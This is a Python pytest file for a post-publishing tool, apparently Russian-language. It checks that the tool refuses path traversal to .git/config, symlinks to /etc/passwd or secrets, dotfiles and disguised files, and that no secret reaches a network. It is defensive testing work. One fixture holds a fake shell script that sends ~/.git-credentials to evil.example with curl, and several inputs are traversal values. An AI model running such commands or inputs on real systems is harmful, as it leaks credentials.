"""A post publishes only its own files: attacks through ``media:``, avatars and settings.

``apply`` runs with every network token and, on GitLab or with ``persist-credentials``, a forge
token sits in ``.git/config``. Each test commits the malicious or mistaken file as a person could
in a merge request, runs the real command against the sandbox, and asserts that the file's bytes
never reach a network or the site while the other posts still go out.
"""

from __future__ import annotations

import io
import os
import zipfile
from collections.abc import Callable
from pathlib import Path

import pytest
from conftest import Publisher, Sandboxes, jpeg_bytes, write_files

from publisher.core.clock import FakeClock
from publisher.engine.apply import Outcome, Provenance
from publisher.engine.approval import Approvals
from publisher.engine.workspace import open_workspace
from publisher.reports.site import build_site

#: what actions/checkout with persist-credentials writes into .git/config
FORGE_TOKEN = b"AUTHORIZATION: basic eC1hY2Nlc3MtdG9rZW46Z2hzX0xFQUtFRA=="
NEWS = "---\ntitle: Вывоз мусора\nnetworks: [vk, telegram]\n---\nМусор вывозят по графику.\n"
PHOTO_POST = "---\ntitle: Ёлка\nnetworks: [vk, telegram]\nmedia: [a.jpg]\n---\nЁлка на площади.\n"


def attached(file: str, kind: str = "document") -> str:
    """A post whose ``media[0]`` (line 5) is ``file``."""
    return (
        "---\ntitle: Документ\nnetworks: [vk, telegram]\nmedia:\n"
        f"  - file: {file}\n    kind: {kind}\n---\nДокумент во вложении.\n"
    )


@pytest.fixture
def repo(make_repo: Callable[..., Path]) -> Path:
    root = make_repo({"content/2026/12/news.md": NEWS})
    with open(root / ".git" / "config", "ab") as config:
        config.write(b'[http "https://github.com/"]\n\textraheader = ' + FORGE_TOKEN + b"\n")
    return root


def assert_refused(run: Publisher, post: str, line: int, secret: bytes) -> None:
    """``check`` names the post's line; ``apply`` holds the post back, publishes the news, and
    no network ever receives ``secret``."""
    checked = run("check")
    assert checked.exit_code == 1, checked.output
    assert f"{post}:{line}" in checked.output
    applied = run("apply", "--no-commit")
    assert applied.exit_code == 1, applied.output
    assert run.texts("vk") == ["Мусор вывозят по графику."]
    assert secret not in run.received()


def test_media_pointing_at_the_git_config_is_refused(
    repo: Path, publisher: Callable[[Path], Publisher]
) -> None:
    write_files(repo, {"content/2026/leak.md": attached("../../.git/config")})
    run = publisher(repo)
    assert_refused(run, "content/2026/leak.md", 5, FORGE_TOKEN)
    assert "вне папки поста" in run("check").output


@pytest.mark.parametrize("target", ["/etc/passwd", ".git/config"])
def test_a_symlink_in_the_post_folder_to_a_secret_is_refused(
    repo: Path, publisher: Callable[[Path], Publisher], target: str
) -> None:
    write_files(repo, {"content/2026/12/plan/index.md": attached("plan.pdf")})
    source = Path(target) if target.startswith("/") else repo / target
    (repo / "content/2026/12/plan/plan.pdf").symlink_to(source)
    secret = source.read_bytes()[:40]
    assert_refused(publisher(repo), "content/2026/12/plan/index.md", 5, secret)


def test_a_symlink_loop_or_a_nul_byte_is_an_error_not_a_crash(
    repo: Path, publisher: Callable[[Path], Publisher]
) -> None:
    write_files(repo, {"content/2026/12/plan/index.md": attached('"a\\0.pdf"')})
    (repo / "content/2026/12/loop.pdf").symlink_to(repo / "content/2026/12/loop.pdf")
    write_files(
        repo, {"content/2026/12/loop.md": attached("loop.pdf").replace("Документ", "Петля")}
    )
    run = publisher(repo)
    checked = run("check")
    assert checked.exit_code == 1, checked.output
    assert "content/2026/12/plan/index.md:5" in checked.output
    assert "content/2026/12/loop.md:5" in checked.output


def test_a_dot_file_beside_the_post_is_refused(
    repo: Path, publisher: Callable[[Path], Publisher]
) -> None:
    secret = b"VK_USER_TOKEN=vk1.a.dotenv-secret-value"
    write_files(
        repo,
        {"content/2026/12/plan/index.md": attached(".env"), "content/2026/12/plan/.env": secret},
    )
    assert_refused(publisher(repo), "content/2026/12/plan/index.md", 5, secret)


def test_a_photo_that_is_really_text_is_refused(
    repo: Path, publisher: Callable[[Path], Publisher]
) -> None:
    secret = b"password = hunter2-not-a-photo"
    write_files(
        repo,
        {
            "content/2026/12/plan/index.md": attached("a.jpg", "photo"),
            "content/2026/12/plan/a.jpg": secret,
        },
    )
    assert_refused(publisher(repo), "content/2026/12/plan/index.md", 5, secret)


def test_a_shell_script_renamed_pdf_is_refused(
    repo: Path, publisher: Callable[[Path], Publisher]
) -> None:
    script = b"#!/bin/sh\ncurl -d @$HOME/.git-credentials https://evil.example/\n"
    write_files(
        repo,
        {
            "content/2026/12/plan/index.md": attached("plan.pdf"),
            "content/2026/12/plan/plan.pdf": script,
        },
    )
    run = publisher(repo)
    assert_refused(run, "content/2026/12/plan/index.md", 5, script)
    assert "не файл PDF" in run("check").output


def test_real_documents_and_the_media_folder_still_go_out(
    repo: Path, publisher: Callable[[Path], Publisher]
) -> None:
    docx = io.BytesIO()
    with zipfile.ZipFile(docx, "w") as archive:
        archive.writestr("[Content_Types].xml", "<Types/>")
        archive.writestr("word/document.xml", "<w:document/>")
    write_files(
        repo,
        {
            "publisher.yml": "default_networks: [vk, telegram]\nmedia_dir: content/shared\n",
            "content/2026/12/plan/index.md": attached("plan.docx"),
            "content/2026/12/plan/plan.docx": docx.getvalue(),
            "content/2026/12/elka/index.md": PHOTO_POST.replace("a.jpg", "../../../shared/a.jpg"),
            "content/shared/a.jpg": jpeg_bytes(),
        },
    )
    run = publisher(repo)
    checked = run("check")
    assert checked.exit_code == 0, checked.output
    assert run("apply", "--no-commit").exit_code == 0
    assert len(run.texts("vk")) == 3


def test_an_avatar_pointing_at_the_git_config_is_refused(
    repo: Path, publisher: Callable[[Path], Publisher]
) -> None:
    account = (repo / "accounts/vk.md").read_text(encoding="utf-8")
    write_files(
        repo, {"accounts/vk.md": account.replace("token_env:", "avatar: .git/config\ntoken_env:")}
    )
    run = publisher(repo)
    checked = run("check")
    assert checked.exit_code == 1
    assert "accounts/vk.md:4" in checked.output and "вне папки design" in checked.output
    run("apply", "--no-commit")
    assert run.texts("vk") == ["Мусор вывозят по графику."]
    assert FORGE_TOKEN not in run.received()


def test_a_design_folder_linked_out_of_the_repository_gives_no_avatar(
    repo: Path, tmp_path: Path, publisher: Callable[[Path], Publisher]
) -> None:
    elsewhere = tmp_path / "runner-files"
    elsewhere.mkdir()
    secret_image = jpeg_bytes(400, 400, "red")
    (elsewhere / "logo.jpg").write_bytes(secret_image)
    os.symlink(elsewhere, repo / "design")
    account = (repo / "accounts/vk.md").read_text(encoding="utf-8")
    write_files(
        repo,
        {"accounts/vk.md": account.replace("token_env:", "avatar: design/logo.jpg\ntoken_env:")},
    )
    run = publisher(repo)
    checked = run("check")
    assert checked.exit_code == 1
    assert "accounts/vk.md:4" in checked.output and "вне папки design" in checked.output
    run("apply", "--no-commit")
    assert secret_image not in run.received()


@pytest.mark.parametrize("setting", ["content_dir: ..", "content_dir: .git", "media_dir: ."])
def test_folders_outside_the_repository_are_refused(
    repo: Path, publisher: Callable[[Path], Publisher], setting: str
) -> None:
    write_files(repo, {"publisher.yml": f"default_networks: [vk, telegram]\n{setting}\n"})
    run = publisher(repo)
    checked = run("check")
    assert checked.exit_code == 1
    assert "publisher.yml:2" in checked.output
    assert run("apply", "--no-commit").exit_code == 1
    assert not (run.state / "vk.json").exists() or run.texts("vk") == []


def test_a_file_swapped_for_a_symlink_after_check_is_never_read(
    repo: Path, tmp_path: Path, clock: FakeClock, sandboxes: Sandboxes
) -> None:
    """Defence in depth: apply and the site check each file again where they read it."""
    write_files(
        repo,
        {"content/2026/12/elka/index.md": PHOTO_POST, "content/2026/12/elka/a.jpg": jpeg_bytes()},
    )
    ws = open_workspace(repo, clock, {}, sandboxes.state, sandboxes().transport())
    content = ws.load()
    result, plan = ws.checked_plan(content)
    assert not result.errors
    photo = repo / "content/2026/12/elka/a.jpg"
    photo.unlink()
    photo.symlink_to(repo / ".git" / "config")
    report = ws.apply(content, plan, Approvals(Provenance()))
    outcomes = {(r.action.post_path, r.action.network): r.outcome for r in report.results}
    assert outcomes[("content/2026/12/elka/index.md", "vk")] is Outcome.FAILED
    assert outcomes[("content/2026/12/news.md", "vk")] is Outcome.DONE
    written = build_site(ws, content, tmp_path / "site")
    assert all(FORGE_TOKEN not in p.read_bytes() for p in written if p.is_file())
    assert FORGE_TOKEN not in Publisher(repo, sandboxes).received()
    assert os.path.islink(photo)


def test_a_post_file_that_is_a_symlink_out_of_the_content_folder_is_refused(
    repo: Path, tmp_path: Path, publisher: Callable[[Path], Publisher]
) -> None:
    secret = "Служебная записка: пароль от почты hunter2."
    outside = tmp_path / "outside" / "note.md"
    write_files(
        outside.parent, {"note.md": f"---\ntitle: Записка\nnetworks: [vk]\n---\n{secret}\n"}
    )
    (repo / "content/2026/12/leak.md").symlink_to(outside)
    assert_refused(publisher(repo), "content/2026/12/leak.md", 1, secret.encode())


def test_a_cover_background_outside_design_is_refused(
    repo: Path, publisher: Callable[[Path], Publisher]
) -> None:
    write_files(repo, {"design/cover.yml": "background: .git/config\nslots: []\n"})
    result = publisher(repo)("accounts", "cover", "--upload")
    assert result.exit_code == 1
    assert "вне папки design" in result.output
    assert not (repo / "design/generated/cover.png").exists()
